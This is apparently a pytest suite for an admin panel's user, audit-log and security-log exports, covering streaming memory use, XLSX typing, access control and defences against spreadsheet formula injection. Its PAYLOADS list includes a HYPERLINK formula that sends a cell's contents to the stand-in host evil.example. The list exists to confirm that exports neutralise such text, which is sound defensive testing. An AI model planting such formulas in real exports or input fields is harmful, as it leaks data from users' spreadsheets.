"""Exports of admin lists: CSV streamed a page at a time (100k accounts with flat memory), XLSX opens."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
import uuid
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from api.accounts.models import Account
from tests.support.api import db_execute, sign_up, staff_headers

EXPORT = "/api/v1/admin/users/export"


def _many_accounts(settings, count: int) -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    rows = [
        {
            "id": uuid.uuid4(),
            "email": f"bulk{n:06d}@example.com",
            "password_hash": "x",
            "role": "user",
            "plan_code": "free",
            "country": "DE",
            "is_blocked": False,
            "created_at": at,
            "balance": 0,
        }
        for n in range(count)
    ]
    db_execute(
        settings, *(Account.__table__.insert().values(rows[i : i + 5000]) for i in range(0, count, 5000))
    )


def _export_all_users(client, admin) -> tuple[int, str, int]:
    """The CSV export of every user, read as it streams: (lines, the header, the peak of traced memory)."""
    tracemalloc.start()
    try:
        rows = 0
        with client.stream(
            "GET", EXPORT, params={"role": "user", "sort": "email", "order": "asc"}, headers=admin
        ) as response:
            assert response.status_code == 200
            assert response.headers["content-type"].startswith("text/csv")
            first = last = None
            for line in response.iter_lines():
                if first is None:
                    first = line
                last = line
                rows += 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert first.startswith("id,email,role,plan_code")
    return rows, last, peak


@pytest.mark.long  # a memory test: 100,000 accounts, a minute or more on each database
@pytest.mark.parametrize(
    "database_url", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True
)
def test_a_csv_export_of_100k_users_streams_with_flat_memory(client, settings):
    _many_accounts(settings, 100_000)
    admin = staff_headers(client, settings, "admin")
    rows, _, peak = _export_all_users(client, admin)
    assert rows == 100_001  # the header and every user
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB while exporting"


@pytest.mark.both_databases  # the export reads a page at a time, each database its own way
def test_a_csv_export_streams_every_user_in_order_across_its_pages(client, settings):
    """`make test`'s smoke of the 100k export: more users than a few pages hold, each once, in order."""
    _many_accounts(settings, 5_000)
    admin = staff_headers(client, settings, "admin")
    rows, last, _ = _export_all_users(client, admin)
    assert rows == 5_001  # the header and every user
    assert ",bulk004999@example.com," in f",{last},"  # sorted by email: the last one last


def test_an_xlsx_export_opens_with_the_filtered_users(client, settings):
    for name in ("ada", "bob", "cyd"):
        sign_up(client, f"{name}@example.com", country="FR" if name == "bob" else "DE")
    analyst = staff_headers(client, settings, "analyst")
    response = client.get(
        EXPORT, params={"format": "xlsx", "country": "DE", "sort": "email", "order": "asc"}, headers=analyst
    )
    assert response.status_code == 200
    assert 'filename="users.xlsx"' in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("id", "email", "role")
    assert [r[1] for r in rows[1:]] == ["ada@example.com", "cyd@example.com"]
    as_csv = client.get(
        EXPORT, params={"country": "DE", "sort": "email", "order": "asc"}, headers=analyst
    ).text
    assert [r["email"] for r in csv.DictReader(io.StringIO(as_csv))] == ["ada@example.com", "cyd@example.com"]
    assert client.get(EXPORT, headers=sign_up(client, "eve@example.com")).status_code == 403
    # Typed cells: a spreadsheet sums balances and sorts dates.
    typed = load_workbook(io.BytesIO(response.content)).active
    column = {cell.value: cell.column for cell in typed[1]}
    assert typed.cell(2, column["balance"]).data_type == "n"
    assert typed.cell(2, column["created_at"]).is_date

    # Each export is in the audit log: who, which list, which filters, how many rows, from where.
    admin = staff_headers(client, settings, "admin")
    taken = client.get("/api/v1/admin/audit", params={"action": "export.download"}, headers=admin).json()
    assert [(e["actor_email"], e["target_id"], e["after"]["format"], e["after"]["rows"]) for e in taken] == [
        ("analyst@example.com", "users", "csv", 2),
        ("analyst@example.com", "users", "xlsx", 2),
    ]
    filters = {"format": "xlsx", "country": "DE", "sort": "email", "order": "asc"}
    assert taken[1]["after"]["filters"] == filters
    assert taken[0]["ip"] == "testclient" and taken[0]["user_agent"] == "testclient"


def _xlsx_rows(response) -> list[tuple]:
    assert response.status_code == 200, response.text
    return list(
        load_workbook(io.BytesIO(response.content), read_only=True).active.iter_rows(values_only=True)
    )


def test_the_audit_log_and_the_security_log_export_with_their_filters(client, settings):
    ada = sign_up(client, "ada@example.com")
    client.post("/api/v1/auth/login", json={"email": "ada@example.com", "password": "wrong password"})
    admin = staff_headers(client, settings, "admin")
    ada_id = client.get("/api/v1/me", headers=ada).json()["id"]
    for action in ("block", "unblock"):
        client.post(f"/api/v1/admin/users/{ada_id}/{action}", json={"reason": "a test"}, headers=admin)

    audit_csv = client.get("/api/v1/admin/audit/export", params={"target_id": ada_id}, headers=admin)
    assert audit_csv.headers["content-type"].startswith("text/csv")
    entries = list(csv.DictReader(io.StringIO(audit_csv.text)))
    assert [e["action"] for e in entries] == ["user.unblock", "user.block"]  # newest first
    assert json.loads(entries[1]["after"]) == {"is_blocked": True}  # JSON, not Python's repr
    audit_xlsx = _xlsx_rows(
        client.get(
            "/api/v1/admin/audit/export", params={"format": "xlsx", "action": "user.block"}, headers=admin
        )
    )
    assert audit_xlsx[0][:5] == ("id", "occurred_at", "actor_id", "actor_email", "action")
    assert [r[4] for r in audit_xlsx[1:]] == ["user.block"]

    security = "/api/v1/admin/security-events/export"
    failures = _xlsx_rows(
        client.get(security, params={"format": "xlsx", "kind": "user.login_failed"}, headers=admin)
    )
    assert [(r[2], r[5]) for r in failures[1:]] == [("user.login_failed", "ada@example.com")]
    logins = list(
        csv.DictReader(
            io.StringIO(client.get(security, params={"email": "ADA@example.com"}, headers=admin).text)
        )
    )
    assert {e["kind"] for e in logins} >= {"user.login_succeeded", "user.login_failed", "user.registered"}
    analyst = staff_headers(client, settings, "analyst")  # neither audit:read nor security:read
    assert client.get("/api/v1/admin/audit/export", headers=analyst).status_code == 403
    assert client.get(security, headers=analyst).status_code == 403


# --- formula injection --------------------------------------------------------------------------------

# Text a spreadsheet would run (OWASP "CSV Injection"), as a user can type it: an email, a User-Agent.
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _csv_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:  # every cell: inert text, or a number (a negative one is a number, not a formula)
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), repr(cell)
    return cells


def _xlsx_cells(response) -> list[list]:
    """The sheet's rows of cells; every cell checked: no formula, inert text."""
    assert response.status_code == 200, response.text
    rows = [list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
    for cell in (cell for row in rows for cell in row):
        assert cell.data_type != "f", cell.value
        if cell.data_type == "s":
            assert not cell.value.startswith(FORMULA_STARTS), repr(cell.value)
    return rows


def test_security_log_exports_make_formulas_typed_in_an_email_or_a_user_agent_inert(client, settings):
    from api.security.models import SecurityEvent

    for text in PAYLOADS[:4]:  # over HTTP: an email typed at sign-in, a User-Agent header
        client.post(
            "/api/v1/auth/login", json={"email": text, "password": "wrong"}, headers={"User-Agent": text}
        )
    # A tab or a CR cannot travel at the start of a header or a (trimmed) email: stored as it would be.
    db_execute(
        settings,
        *(
            SecurityEvent.__table__.insert().values(
                occurred_at=datetime(2026, 11, 25, tzinfo=UTC),
                kind="user.login_failed",
                outcome="failure",
                email=text,
                user_agent=text,
                details={},
            )
            for text in PAYLOADS[4:]
        ),
    )
    admin = staff_headers(client, settings, "admin")
    params = {"kind": "user.login_failed"}
    export = "/api/v1/admin/security-events/export"
    text = client.get(export, params=params, headers=admin).text
    _csv_cells(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    lowered = [p.lower() for p in PAYLOADS[:4]] + PAYLOADS[4:]  # an email is kept lower-cased
    assert sorted(r["email"] for r in rows) == sorted("'" + p for p in lowered)
    assert sorted(r["user_agent"] for r in rows) == sorted("'" + p for p in PAYLOADS)

    sheet = _xlsx_cells(client.get(export, params={**params, "format": "xlsx"}, headers=admin))
    column = {name.value: index for index, name in enumerate(sheet[0])}
    for name, typed in (("email", lowered), ("user_agent", PAYLOADS)):  # (XML reads a CR back as a LF)
        assert sorted(row[column[name]].value for row in sheet[1:]) == sorted(
            "'" + p.replace("\r", "\n") for p in typed
        )


def test_users_export_keeps_balances_numbers_and_dates_dates_and_emails_inert(client, settings):
    emails = ["-2+3@example.com", "+1+1@example.com", "=1+1@example.com"]
    for email in emails:
        sign_up(client, email)
    db_execute(settings, update(Account).where(Account.email == emails[0]).values(balance=Decimal("-2.5")))
    db_execute(settings, update(Account).where(Account.email == emails[1]).values(balance=Decimal("10.25")))
    admin = staff_headers(client, settings, "admin")
    params = {"role": "user", "sort": "email", "order": "asc"}

    text = client.get(EXPORT, params=params, headers=admin).text
    _csv_cells(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["email"] for r in rows) == sorted("'" + e for e in emails)
    assert {r["balance"] for r in rows} == {"-2.500000", "10.250000", "0.000000"}  # numbers, no quote

    sheet = _xlsx_cells(client.get(EXPORT, params={**params, "format": "xlsx"}, headers=admin))
    column = {name.value: index for index, name in enumerate(sheet[0])}
    body = sheet[1:]
    assert sorted(row[column["email"]].value for row in body) == sorted("'" + e for e in emails)
    balances = [row[column["balance"]] for row in body]
    assert all(cell.data_type == "n" for cell in balances)  # numeric cells: Excel sums them
    assert sum(cell.value for cell in balances) == pytest.approx(7.75)
    created = [row[column["created_at"]] for row in body]
    assert all(cell.is_date and isinstance(cell.value, datetime) for cell in created)  # dates sort as dates


def test_a_table_the_panel_downloaded_is_recorded_for_any_staff_role_and_refused_to_others(client, settings):
    viewer = staff_headers(client, settings, "viewer")
    body = {"name": "top_users_20261101_20261130", "format": "xlsx", "rows": 10, "columns": ["Email"]}
    assert client.post("/api/v1/admin/audit/downloads", json=body, headers=viewer).status_code == 204
    assert client.post("/api/v1/admin/audit/downloads", json=body).status_code == 401
    user = sign_up(client, "ada@example.com")
    assert client.post("/api/v1/admin/audit/downloads", json=body, headers=user).status_code == 403
    for bad in ({**body, "format": "pdf"}, {**body, "rows": -1}, {**body, "extra": 1}, {**body, "name": ""}):
        refused = client.post("/api/v1/admin/audit/downloads", json=bad, headers=viewer)
        assert refused.status_code == 422 and refused.json()["error"]["code"] == "validation_error", bad

    admin = staff_headers(client, settings, "admin")
    taken = client.get("/api/v1/admin/audit", params={"action": "export.download"}, headers=admin).json()
    assert [(e["actor_email"], e["target_type"], e["target_id"], e["after"]) for e in taken] == [
        ("viewer@example.com", "panel_table", body["name"], {k: v for k, v in body.items() if k != "name"}),
    ]
